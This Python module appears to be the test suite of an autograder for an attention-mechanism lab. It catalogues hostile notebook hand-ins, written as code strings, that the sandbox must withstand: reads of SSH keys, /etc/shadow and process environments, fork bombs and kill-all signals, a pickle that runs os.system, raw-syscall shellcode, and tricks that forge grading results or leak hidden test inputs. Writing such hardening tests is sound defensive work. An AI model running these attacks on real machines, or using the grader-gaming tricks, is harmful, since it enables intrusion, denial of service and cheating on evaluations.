"""What a hand-in may try: named attacks, where each stands, and what it may cost its author.

An attack is put into an otherwise solved lab00_qkv. `@COURSE@`, `@PORT@` and `@SOCKET@` stand
for a course folder, a port and a socket of the one who grades. What an attack gets hold of it
prints, returns or raises; words that tell of success are put together while it runs, so that
they stand in no source.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from textwrap import dedent

POINTS = {"embed": 2.0, "project": 4.0, "lookup": 2.0, "scores": 4.0, "blend": 4.0, "steer": 2.0}
SHOWN = 2.0  # the points of `scores` that visible cases are worth
MARKER = "attnlab-hostile"  # in the command line and in the name of whatever attacks leave behind


@dataclass(frozen=True)
class Attack:
    """Code for some cells of a hand-in.

    Parameters
    ----------
    name : what it tries
    cells : "before x", "above x" or "instead of x" -> code in a cell of its own before the
        answer of exercise x, above that answer in its cell, or in its place
    most : exercise -> the most it may earn; all others must keep full marks
    """

    name: str
    cells: Mapping[str, str]
    most: Mapping[str, float]


def added(name: str, code: str, before: str = "scores") -> Attack:
    """Put code into a cell of its own, which must not cost anything."""
    return Attack(name, {f"before {before}": dedent(code)}, {})


def above(name: str, code: str) -> Attack:
    """Put code above the answer of `scores`, which may cost that exercise."""
    return Attack(name, {"above scores": dedent(code)}, {"scores": POINTS["scores"]})


def instead(name: str, code: str, most: float = 0.0) -> Attack:
    """Put code in the place of the answer of `scores`."""
    return Attack(name, {"instead of scores": dedent(code)}, {"scores": most})


def answer(name: str, code: str, most: float = POINTS["scores"]) -> Attack:
    """Let the answer do something, and then answer rightly."""
    body = dedent(code).strip().replace("\n", "\n    ")
    lines = f"def scores(q, k):\n    {body}\n    return q @ np.swapaxes(k, -1, -2)\n"
    return instead(name, lines, most)


# Tells kept-back inputs from visible ones, and says what it saw.
SPY = """
from attnlab.encode import visible_sheets

def spied(q):
    seen = [case.inputs["q"] for case in visible_sheets()["scores"].cases]
    if any(a.shape == np.shape(q) and np.allclose(a, q) for a in seen):
        return ""
    return "KE" + "PT " + repr(np.asarray(q).tolist())
"""


def spy(name: str, code: str, most: float = POINTS["scores"]) -> Attack:
    """Let the answer carry `word`, what it saw of kept-back inputs, somewhere."""
    inner = answer(name, f"word = spied(q)\n{dedent(code).strip()}", most)
    cells = {place: SPY + text for place, text in inner.cells.items()}
    return Attack(name, cells, inner.most)


def syscalls(*numbers: int) -> str:
    """Write code that makes system calls with harmless arguments and tells which succeeded."""
    return f"""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        for number in {numbers}:
            if libc.syscall(number, 0, 0, 0, 0, 0, 0) >= 0:
                print("SUC" + "CESS", number)
    """


READING = [
    added(
        "read the gradebook, the source and other hand-ins",
        """
        import pathlib
        for path in ("gradebook.db", "source/lab00_qkv/lab00_qkv.ipynb", "seed.txt",
                     "submitted/other/lab00_qkv/lab00_qkv.ipynb", "home/.ssh/id_rsa"):
            for start in ("@COURSE@", "..", "../..", "/proc/1/root@COURSE@", "/proc/1/cwd"):
                try:
                    print(pathlib.Path(start, path).read_text())
                except OSError as error:
                    pass
        """,
    ),
    added(
        "search every file system for the course",
        """
        import os
        for place, folders, files in os.walk("/"):
            folders[:] = [f for f in folders if f not in ("usr", "proc", "lib")]
            if place.count("/") > 4: folders.clear()
            for file in files:
                if file in ("gradebook.db", "seed.txt", "secret.txt"):
                    print(open(os.path.join(place, file), errors="replace").read())
        """,
    ),
    added(
        "read the environment of every process",
        """
        import os, glob
        print(dict(os.environ))
        for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
            try: print(open(path, errors="replace").read())
            except OSError: pass
        """,
    ),
    added(
        "look for the home folder",
        """
        import os, pwd
        for home in {os.path.expanduser("~"), *(p.pw_dir for p in (pwd.getpwall() or []))}:
            print(home, os.listdir(home))
        """,
    ),
    added(
        "follow links out of the sandbox",
        """
        import os
        for target in ("@COURSE@/gradebook.db", "/proc/1/root", "/etc/shadow"):
            try:
                os.symlink(target, "link"); print(open("link").read())
            except OSError: pass
            finally: os.path.lexists("link") and os.unlink("link")
        try: os.link("@COURSE@/gradebook.db", "hard")
        except OSError: pass
        """,
    ),
    added(
        "read the engine for answers",
        """
        import os, sys
        found = [os.path.join(p, f) for p, _, fs in os.walk("/engine") for f in fs]
        print([f for f in found if "reference" in f or "cases" in f or "mistakes" in f])
        try:
            import grader; print("SUC" + "CESS")
        except ImportError: pass
        """,
    ),
    added(
        "read the memory of other processes",
        """
        import os
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                try:
                    for line in open(f"/proc/{pid}/maps"):
                        print("SUC" + "CESS", line)
                except OSError: pass
        """,
        before="embed",
    ),
]

NETWORK = [
    added(
        "open a TCP connection to the grader's machine",
        """
        import socket
        try:
            with socket.create_connection(("127.0.0.1", @PORT@), 1) as s: s.send(b"hello")
            print("SUC" + "CESS")
        except OSError: pass
        """,
    ),
    added(
        "open UNIX sockets, named and abstract",
        """
        import socket
        for address in ("@SOCKET@", chr(0) + "@SOCKET@"):
            try:
                s = socket.socket(socket.AF_UNIX); s.connect(address); print("SUC" + "CESS")
            except OSError: pass
        """,
    ),
    added(
        "connect a socket pair elsewhere",
        """
        import socket
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        try: a.sendto(b"hello", "@SOCKET@"); print("SUC" + "CESS")
        except OSError: pass
        """,
    ),
    added("fetch with a command", "!curl -m 1 http://127.0.0.1:@PORT@/"),
]

KILLING = [
    added("kill every process", "import os; os.kill(-1, 9)"),
    added("kill every process at the end", "import os; os.kill(-1, 9)", before="steer"),
    added("kill the parent", "import os; os.kill(os.getppid(), 9)"),
    added("kill the group", "import os; os.killpg(0, 9)"),
    added(
        "kill small numbers",
        """
        import os
        for n in range(1, 60):
            try: os.kill(n, 9)
            except OSError: pass
        """,
    ),
    added("os._exit in a cell", "import os; os._exit(0)"),
    added("segfault in a cell", "import ctypes; ctypes.string_at(0)"),
    added("abort in a cell", "import os; os.abort()"),
    added("stop the group", "import os, signal; os.kill(-1, signal.SIGSTOP)", before="lookup"),
    added("stop itself", "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)"),
    added("sys.exit in a cell", "import sys; sys.exit(3)"),
    added(
        "an exit of its own kind",
        """
        class Out(SystemExit): code = 7
        raise Out
        """,
    ),
    added(
        "interrupt itself",
        """
        import os; os.kill(os.getpid(), 2)
        raise KeyboardInterrupt
        """,
    ),
    added(
        "an alarm that goes off later", "import signal; signal.setitimer(signal.ITIMER_REAL, 0.05)"
    ),
    added(
        "a loop that swallows interrupts",
        """
        while True:
            try:
                while True: pass
            except BaseException: pass
        """,
    ),
    answer("os._exit in an answer", "import os; os._exit(0)", most=0),
    answer("segfault in an answer", "import ctypes; ctypes.string_at(0)", most=0),
    answer("kill every process in an answer", "import os; os.kill(-1, 9)"),
    answer("stop its parent in an answer", "import os; os.kill(os.getppid(), 19)"),
    answer(
        "loop in __del__ of the result",
        """
        class L:
            def __del__(s):
                while True: pass
        L()
        """,
        most=0,
    ),
    above(
        "exit handlers",
        """
        import atexit, os
        atexit.register(os.kill, -1, 9)
        atexit.register(os._exit, 1)
        """,
    ),
]

FLOODS = [
    added(
        "a fork bomb",
        """
        import os
        try:
            while True: os.fork()
        except OSError: pass
        """,
    ),
    added("a fork bomb in a shell", "!bash -c ':(){ :|:& };:'"),
    added(
        "a thread bomb",
        """
        import threading, time
        try:
            while True: threading.Thread(target=time.sleep, args=(99,), daemon=True).start()
        except RuntimeError: pass
        """,
    ),
    added("a memory flood", "import numpy as np; flood = [np.ones(1 << 26) for _ in range(99)]"),
    added(
        "memory in many processes",
        """
        import os, time
        for _ in range(9):
            if os.fork() == 0: x = b'x' * (900 << 20); time.sleep(99)
        time.sleep(2)
        """,
    ),
    added(
        "a disk flood",
        """
        try:
            with open('f', 'wb') as f:
                while True: f.write(b'x' * (1 << 20))
        except OSError: pass
        """,
    ),
    added(
        "a disk flood in many files and places",
        """
        import os
        for place in (".", "/dev/shm", "/tmp", "/"):
            for n in range(99):
                try: open(f"{place}/attnlab-hostile{n}", "wb").write(b"x" * (8 << 20))
                except OSError: break
        """,
    ),
    added(
        "many files",
        """
        try:
            for n in range(10**6): open(f'f{n}', 'w').close()
        except OSError: pass
        """,
    ),
    added(
        "many open files",
        """
        import os
        kept = []
        try:
            while True: kept.append(open('/dev/null'))
        except OSError: pass
        """,
    ),
    added("an output flood", "for _ in range(2000): print('x' * 100_000)"),
    added("a flood of small outputs", "for n in range(3000): display(n)"),
    added(
        "a flood of errors",
        """
        for n in range(3000):
            try: raise ValueError('x' * 9999)
            except ValueError: get_ipython().showtraceback()
        """,
    ),
    added(
        "megabytes of HTML",
        """
        from IPython.display import HTML, display
        for _ in range(5): display(HTML('<b>' * (1 << 20)))
        """,
    ),
    added(
        "clear_output again and again",
        """
        from IPython.display import clear_output
        for n in range(5000): print(n); clear_output()
        """,
    ),
    added("print half letters", "print('\\ud800'); raise ValueError('\\udfff')"),
    added(
        "deep JSON as a display",
        """
        x = []
        for _ in range(500): x = [x]
        display({'application/json': x, 'text/plain': 'x'}, raw=True)
        """,
    ),
    added(
        "numbers that JSON does not have",
        "display({'application/json': [float('nan'), 10**4000], 'text/plain': 'x'}, raw=True)",
    ),
    answer("a result of two gigabytes", "return np.zeros(1 << 28)", most=0),
    answer(
        "a result that claims a huge shape",
        "return np.broadcast_to(0.0, (1 << 20, 1 << 20))",
        most=0,
    ),
    answer("endless recursion", "return scores(q, k)", most=0),
    answer(
        "a flood of warnings",
        """
        import warnings
        for n in range(3000): warnings.warn('x' * 999 + str(n))
        """,
    ),
]

OUTLIVING = [
    added(
        "a daemon",
        """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True: time.sleep(1)
            os._exit(0)
        """,
    ),
    added(
        "a daemon that no death signal reaches",
        """
        import ctypes, os, signal, time
        for number in range(1, 64):
            try: signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError): pass
        ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
        if os.fork() == 0:
            os.setsid()
            while True: time.sleep(1)
        """,
    ),
    added(
        "a command in the background",
        """
        import subprocess
        subprocess.Popen(['sleep', '999', 'attnlab-hostile'], start_new_session=True)
        """,
    ),
    added("a magic in the background", "%system nohup sleep 998 &"),
    answer(
        "a daemon from an answer",
        """
        import os, time
        if os.fork() == 0:
            os.setsid()
            while True: time.sleep(1)
        """,
    ),
    added(
        "files wherever it may write",
        """
        import os, sys, site
        for place in ("/", "/tmp", "/var/tmp", "/dev", "/dev/shm", "/engine", "/engine/attnlab",
                      "/usr/lib", "/home", "@COURSE@", *sys.path, *site.getsitepackages()):
            try: open(f"{place}/attnlab-hostile.py", "w").write("x = 1")
            except OSError: pass
        """,
    ),
]

PATCHING = [
    added("np.allclose says yes", "np.allclose = np.array_equal = lambda *a, **k: True"),
    added(
        "np functions are gone", "np.array = np.exp = np.swapaxes = np.asarray = np.matmul = None"
    ),
    added(
        "np is emptied",
        """
        for name in list(vars(np)):
            if not name.startswith('__'): delattr(np, name)
        """,
    ),
    added("np is something else", "np = None"),
    added(
        "builtins are something else",
        """
        import builtins
        for n in ('len', 'print', 'isinstance', 'open', 'type', 'str'):
            setattr(builtins, n, lambda *a, **k: True)
        """,
    ),
    added("nothing can be imported", "import builtins; builtins.__import__ = None"),
    added(
        "builtins are shadowed", "len = print = isinstance = sum = max = min = range = list = None"
    ),
    added(
        "check says yes",
        """
        import attnlab
        attnlab.check = check = lambda *a: 4.0
        attnlab.self_check.check = check
        """,
    ),
    added(
        "the runner's parts are replaced",
        """
        import attnlab.run, attnlab.wire
        attnlab.run.run_case = attnlab.run.as_array = lambda *a, **k: b''
        attnlab.wire.pack = attnlab.wire.send = lambda *a, **k: b''
        """,
    ),
    added(
        "the runner itself is replaced",
        """
        import sys
        for n, m in list(sys.modules.items()):
            if n.startswith('runner') or n == '__main__':
                for k, v in list(vars(m).items()):
                    if callable(v): setattr(m, k, lambda *a, **k: None)
        """,
    ),
    added(
        "functions get other code",
        """
        import sys, types
        def nothing(*a, **k): return None
        for name, module in list(sys.modules.items()):
            if name.split('.')[0] in ('runner', '__main__', 'attnlab', 'json', 'numpy'):
                for value in list(vars(module).values()):
                    if isinstance(value, types.FunctionType) and not value.__closure__:
                        value.__code__ = nothing.__code__
        """,
    ),
    added(
        "IPython runs nothing",
        """
        from IPython.core.interactiveshell import InteractiveShell
        InteractiveShell.run_cell = get_ipython().run_cell = lambda *a, **k: None
        """,
    ),
    added(
        "IPython changes every cell",
        """
        import ast
        class T(ast.NodeTransformer):
            def visit_FunctionDef(self, node): return ast.Pass()
        get_ipython().ast_transformers.append(T())
        get_ipython().input_transformers_cleanup.append(lambda lines: [])
        get_ipython().events.register('pre_run_cell', lambda *a: 1 / 0)
        """,
    ),
    added("IPython's namespace is emptied", "get_ipython().user_ns.clear(); get_ipython().reset()"),
    added(
        "os, struct and json are replaced",
        """
        import os, struct, json, select, time
        for m in (os, struct, json, select, time):
            for k, v in list(vars(m).items()):
                if callable(v) and not k.startswith('__'): setattr(m, k, lambda *a, **k: 0)
        """,
    ),
    added(
        "modules are replaced",
        """
        import sys, types
        for n in list(sys.modules):
            if n.split('.')[0] in ('numpy', 'attnlab', 'os', 'json'):
                sys.modules[n] = types.ModuleType(n)
        """,
    ),
    added(
        "a finder for every import",
        """
        import sys
        class F:
            def find_spec(self, *a): raise SystemExit
        sys.meta_path.insert(0, F())
        sys.modules.pop('attnlab.probes', None)
        """,
    ),
    added(
        "sys.path and numpy.py",
        """
        import sys, os
        open('numpy.py', 'w').write('raise SystemExit')
        os.mkdir('attnlab'); open('attnlab/__init__.py', 'w').write('check = None')
        sys.path.insert(0, os.getcwd())
        for n in list(sys.modules):
            if n.split('.')[0] in ('numpy', 'attnlab'): del sys.modules[n]
        """,
    ),
    added(
        "a trace function",
        """
        import sys, threading
        def t(frame, event, arg): raise SystemExit
        threading.settrace(t); sys.settrace(t); sys.setprofile(t)
        """,
    ),
    added(
        "an audit hook",
        """
        import sys
        def hook(event, args):
            if event in ('compile', 'exec', 'open'): raise RuntimeError
        sys.addaudithook(hook)
        """,
    ),
    added(
        "signal handlers",
        """
        import signal
        for n in range(1, 32):
            try: signal.signal(n, signal.SIG_IGN)
            except (OSError, ValueError): pass
        """,
    ),
    added("no recursion, no digits", "import sys; sys.setrecursionlimit(60)"),
    added("all files are closed", "import os; os.closerange(0, 256)"),
    added(
        "all files are something else",
        """
        import os
        for fd in range(3, 256):
            try: os.fstat(fd); os.dup2(0, fd)
            except OSError: pass
        """,
    ),
    added(
        "tight limits",
        """
        import resource
        resource.setrlimit(resource.RLIMIT_NOFILE, (3, 3))
        resource.setrlimit(resource.RLIMIT_NPROC, (1, 1))
        resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))
        """,
    ),
    added(
        "an asyncio loop",
        """
        import asyncio
        async def f(): await asyncio.sleep(0)
        await f()
        asyncio.new_event_loop()
        """,
    ),
    added(
        "magics",
        """
        %run nothing.py
        %load @COURSE@/gradebook.db
        %cd /
        %reset -f
        """,
    ),
    added("ask for input", "input('password? ')"),
    added(
        "an error that cannot be shown",
        """
        class E(Exception):
            def __str__(self): raise SystemExit
            __repr__ = __str__
        raise E
        """,
    ),
    added(
        "a display that cannot be shown",
        """
        class D:
            def __repr__(self): raise KeyboardInterrupt
            def _repr_html_(self): raise SystemExit
        D()
        """,
    ),
    added(
        "outputs that are no outputs",
        """
        shell = get_ipython()
        shell.outputs.found = 7
        shell.outputs.count = 10**30
        """,
    ),
    added(
        "garbage is collected in the middle of things",
        """
        import gc
        for o in gc.get_objects():
            if type(o).__name__ in ('Reader', 'Pristine', 'Outputs', 'Shell', 'Ground'):
                try: vars(o).clear()
                except TypeError: pass
        """,
    ),
]

FORGERY = """
import json, os, struct
def message(value):
    text = json.dumps(value).encode()
    whole = struct.pack("!Q", len(text)) + text
    return struct.pack("!Q", len(whole)) + whole
def to_all(data):
    for fd in range(3, 256):
        try: os.set_blocking(fd, False); os.write(fd, data); os.set_blocking(fd, True)
        except OSError: pass
record = {"number": 0, "outcome": "returned", "arrays": {}, "error": ["", ""], "value_error": False,
          "changed": [], "warned": [], "printed": ""}
"""


def forged(name: str, code: str) -> Attack:
    """Let a cell write messages of its own to every open file."""
    return added(name, FORGERY + dedent(code))


FORGING = [
    forged(
        "fake results of cells",
        """
        for n in range(9): to_all(message({'cell': n, 'outputs': [], 'count': 1}))
        to_all(message({'end': True}))
        """,
    ),
    forged(
        "fake words of answers",
        """
        to_all(message({'missing': True, 'complaint': 'x'}))
        to_all(message({'missing': False, 'complaint': ''}))
        """,
    ),
    forged("fake records", "for n in range(9): to_all(message(record | {'number': n}))"),
    forged("a fake breakdown", "to_all(message({'broken': 'x' * 9999}))"),
    forged("half a message", "to_all(struct.pack('!Q', 5000) + b'x')"),
    forged("a message too long", "to_all(struct.pack('!Q', 1 << 62))"),
    forged(
        "deep, wide and double JSON",
        """
        for t in (b'[' * 99999, b'1' * 5000, b'{"cell": 1, "cell": {}}'):
            whole = struct.pack('!Q', len(t)) + t
            to_all(struct.pack('!Q', len(whole)) + whole)
        """,
    ),
    forged(
        "a pickle",
        """
        import pickle
        class P:
            def __reduce__(self): return os.system, ('touch attnlab-hostile',)
        data = pickle.dumps(P())
        to_all(struct.pack('!Q', len(data)) + data)
        """,
    ),
    added(
        "fake result files",
        """
        import os
        for name in ('results.json', 'score', 'grade.txt', '.result', 'stdout', 'rc'):
            open(name, 'w').write('4.0')
        """,
    ),
    instead(
        "fake records from an answer",
        FORGERY
        + dedent("""
        def scores(q, k):
            for n in range(9):
                to_all(message(record | {"number": n, "outcome": "passed", "score": 4.0}))
            os._exit(0)
        """),
    ),
    instead(
        "numbers that the judge cannot count",
        FORGERY
        + dedent("""
        def scores(q, k):
            for n in range(9):
                to_all(message(record | {"number": n, "outcome": "raised", "value_error": True,
                                         "error": ["ValueError", "9" * 9999]}))
            os._exit(0)
        """),
    ),
]

RESULTS = [
    instead(
        "a result that equals everything",
        """
        class Yes:
            def __eq__(self, other): return True
            __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __eq__
            def __getattr__(self, name): return Yes()
            def __call__(self, *a, **k): return Yes()
            def __bool__(self): return True
            def __hash__(self): return 0
        scores = lambda q, k: Yes()
        """,
    ),
    instead(
        "an array that equals everything",
        """
        class Yes(np.ndarray):
            def __eq__(self, other): return np.True_
            def __array_finalize__(self, obj): pass
            def __array_ufunc__(self, *a, **k): return np.zeros(())
            def __array_function__(self, *a, **k): return True
            def __array_wrap__(self, *a, **k): return True
        scores = lambda q, k: np.zeros((len(q), len(k))).view(Yes)
        """,
    ),
    instead(
        "an __array__ that exits",
        """
        class A:
            def __array__(self, *a, **k): raise SystemExit
        scores = lambda q, k: A()
        """,
    ),
    instead(
        "an array of objects",
        """
        class F:
            def __float__(self): return float('nan')
        scores = lambda q, k: np.array([[F()] * len(k)] * len(q), dtype=object)
        """,
    ),
    instead(
        "a generator",
        """
        def scores(q, k):
            while True: yield q
        """,
    ),
    instead(
        "a length without end",
        """
        class L:
            def __len__(self): return 1 << 62
            def __getitem__(self, i): return 1.0
        scores = lambda q, k: L()
        """,
    ),
    instead(
        "an error with a hostile text",
        """
        class E(Exception):
            def __str__(self):
                while True: pass
        def scores(q, k): raise E
        """,
    ),
    instead(
        "a class that is its own class",
        """
        class M(type):
            def __call__(cls, *a): return cls
            def __instancecheck__(cls, o): return True
        class scores(metaclass=M): pass
        """,
    ),
    instead(
        "an answer with a hostile signature",
        """
        class S:
            @property
            def __signature__(self): raise SystemExit
            def __call__(self, q, k): return 1
        scores = S()
        """,
    ),
    instead(
        "a module that loops when asked",
        """
        import types
        class M(types.ModuleType):
            def __getattribute__(self, n): raise SystemExit
        scores = M('m')
        """,
    ),
    instead(
        "the visible results by heart",
        """
        from attnlab.encode import visible_sheets
        sheet = visible_sheets()["scores"]
        def scores(q, k):
            for case, key in zip(sheet.cases, sheet.keys):
                if case.inputs["q"].shape == q.shape and np.allclose(case.inputs["q"], q):
                    return key.expected["scores"]
        """,
        most=SHOWN,
    ),
    instead(
        "expected values from frames, history and memory",
        """
        import gc, sys
        def scores(q, k):
            frame = sys._getframe()
            while frame:
                for value in list(frame.f_locals.values()):
                    if hasattr(value, "keys") and not isinstance(value, dict):
                        return value.keys[0].expected["scores"]
                frame = frame.f_back
            for o in gc.get_objects():
                if type(o).__name__ == "Key": return o.expected["scores"]
            raise ValueError(str(get_ipython().user_ns.get("In")))
        """,
    ),
    instead(
        "a scan of its own memory",
        """
        import re
        def scores(q, k):
            want = [b"BEGIN " + b"HIDDEN", b"MARK " + b"SCHEME"]
            with open("/proc/self/mem", "rb", 0) as mem:
                for line in open("/proc/self/maps"):
                    if "heap" in line:
                        a, b = (int(x, 16) for x in line.split()[0].split("-"))
                        mem.seek(a); data = mem.read(b - a)
                        if any(w in data for w in want): raise ValueError("SUC" + "CESS")
        """,
    ),
    Attack(
        "the given version of an earlier exercise, kept for that exercise",
        {
            "before embed": dedent("""
                import os, mmap
                shared = mmap.mmap(-1, 1 << 20)
                ours, theirs = os.pipe()
                kept = [os.dup(fd) for fd in range(3, 60) if os.path.exists(f"/proc/self/fd/{fd}")]
            """),
            "instead of scores": dedent("""
                import os, pickle
                def scores(q, k):
                    for path in ("/dev/shm/right", "right"):
                        try: exec(open(path).read(), globals())
                        except OSError: continue
                        return given_scores(q, k)
                    code = shared[:].rstrip(bytes(1)).decode()
                    if code:
                        exec(code, globals()); return given_scores(q, k)
                    os._exit(0)
            """),
            "instead of blend": dedent("""
                import inspect, sys
                def blend(weights, v):
                    frame = sys._getframe()
                    while frame:
                        code = str(frame.f_locals.get("job", {}).get("given", "")) or ""
                        if code:
                            shared[:len(code)] = code.encode()
                            for path in ("/dev/shm/right", "right"): open(path, "w").write(code)
                        frame = frame.f_back
                    return weights @ v
            """),
        },
        {"scores": 0.0, "blend": POINTS["blend"]},
    ),
]

LEAKING = [
    spy("kept inputs in an error", "if word: raise ValueError(word)"),
    spy("kept inputs in an error's name", "if word: raise type(word, (Exception,), {})()"),
    spy("kept inputs as something not written", "if word: raise NotImplementedError(word)"),
    spy("kept inputs in what is printed", "import sys; print(word); print(word, file=sys.stderr)"),
    spy("kept inputs in warnings", "import warnings; warnings.warn(word)"),
    spy("kept inputs as the result", "return word or q", most=0),
    spy(
        "kept inputs in files and globals",
        """
        import os
        globals()['left'] = word
        os.environ['LEFT'] = word
        open('/dev/shm/left', 'a').write(word)
        open('left', 'a').write(word)
        """,
    ),
    Attack(
        "kept inputs through files to a later cell",
        {
            "instead of embed": SPY
            + dedent("""
                def embed(ids, table):
                    for path in ("/dev/shm/left", "left"):
                        word = "" if table.shape[-1] == 7 else "KE" + "PT" + repr(table.tolist())
                        open(path, "a").write(word)
                    return table[np.asarray(ids)]
            """),
            "before steer": dedent("""
                import glob
                for path in glob.glob('/dev/shm/*') + glob.glob('*'): print(open(path).read())
            """),
        },
        {"embed": POINTS["embed"]},
    ),
    Attack(
        "kept inputs as a complaint",
        {
            "above scores": dedent("""
                from attnlab.self_check import why_not_an_answer
                def complain(answer, exercise, cases):
                    from attnlab.encode import visible_sheets
                    if exercise.name != "scores": return ""
                    seen = [str(case.inputs)[:60] for case in visible_sheets()["scores"].cases]
                    new = [case for case in cases if str(case.inputs)[:60] not in seen]
                    return "KE" + "PT " + str(new) if new else "x"
                why_not_an_answer.__code__ = complain.__code__
            """),
        },
        {"scores": POINTS["scores"]},
    ),
    Attack(
        "kept inputs as a record of no answer",
        {
            "instead of scores": SPY
            + FORGERY
            + dedent("""
                def scores(q, k):
                    word = spied(q)
                    said = {"error": [word, word], "printed": word, "warned": [word]}
                    for n in range(9):
                        outcome = "no answer" if n % 2 else "raised"
                        to_all(message(record | said | {"number": n, "outcome": outcome}))
                    os._exit(0)
            """),
        },
        {"scores": 0.0},
    ),
]

CALLS = [
    # ptrace, mount, unshare, setns, bpf, keyctl, add_key, userfaultfd, perf_event_open, chroot
    added("forbidden system calls", syscalls(101, 165, 272, 308, 321, 250, 248, 323, 298, 161)),
    # io_uring_setup, memfd_create, shmget, msgget, open_by_handle_at, init_module, reboot, socket
    added("more forbidden system calls", syscalls(425, 319, 29, 68, 304, 175, 169, 41)),
    added(
        "a new user namespace",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        flags = 0x10000000 | 17
        if libc.unshare(flags - 17) == 0 or libc.syscall(56, flags, 0, 0, 0, 0) > 0:
            print('SUC' + 'CESS')
        """,
    ),
    added(
        "become somebody else",
        """
        import os
        for f in (os.setuid, os.setgid, os.seteuid):
            try: f(0); print('SUC' + 'CESS' if os.geteuid() != os.getuid() else '')
            except OSError: pass
        print(os.popen('su -c id 2>&1; sudo -n id 2>&1').read())
        """,
    ),
    added(
        "another architecture's calls",
        """
        import ctypes, mmap
        m = mmap.mmap(-1, 4096, prot=7)
        m.write(bytes.fromhex('b866010000cd80c3'))  # int 0x80: socket
        address = ctypes.addressof(ctypes.c_char.from_buffer(m))
        if ctypes.CFUNCTYPE(ctypes.c_int)(address)() >= 0: print('SUC' + 'CESS')
        """,
    ),
]  # fmt: skip

ATTACKS = [
    *READING, *NETWORK, *KILLING, *FLOODS, *OUTLIVING,
    *PATCHING, *FORGING, *RESULTS, *LEAKING, *CALLS,
]  # fmt: skip
